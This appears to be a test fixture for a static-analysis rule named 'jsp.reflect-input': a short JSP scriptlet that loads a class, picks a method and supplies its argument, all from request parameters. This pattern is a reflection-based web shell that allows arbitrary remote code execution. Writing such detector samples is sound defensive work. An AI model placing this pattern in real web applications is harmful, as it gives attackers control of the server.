<%-- expect rule=jsp.reflect-input min=85 --%>
<%
    Class<?> k = Class.forName(request.getParameter("c"));
    Object o = k.newInstance();
    k.getMethod(request.getParameter("m"), String.class).invoke(o, request.getParameter("a"));
%>
